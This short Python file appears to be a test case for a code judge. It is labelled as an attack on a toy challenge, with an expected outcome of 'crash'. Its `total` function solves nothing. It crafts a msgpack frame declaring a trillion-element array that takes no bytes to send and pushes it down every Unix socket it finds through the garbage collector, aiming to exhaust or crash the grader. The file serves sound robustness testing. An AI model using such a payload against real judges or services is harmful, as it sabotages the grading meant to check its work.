# attack: frames made by hand: arrays with more elements than bytes
# challenge: toy
# only: test_total
# at most: 0
# outcomes: crash
# says: something that is not an answer
"""Hopes that the judge compares a million million elements that took no byte to send."""

import gc
import socket
import struct

import msgpack


def total(keys):
    head = msgpack.packb([0, "|S0", [10**12]])
    body = msgpack.packb({"value": msgpack.ExtType(2, head)})
    frame = struct.pack("<QI", len(body), 1) + struct.pack("<Q", 0) + body
    for found in gc.get_objects():
        if isinstance(found, socket.socket) and found.family == socket.AF_UNIX:
            found.sendall(frame)
    return 0
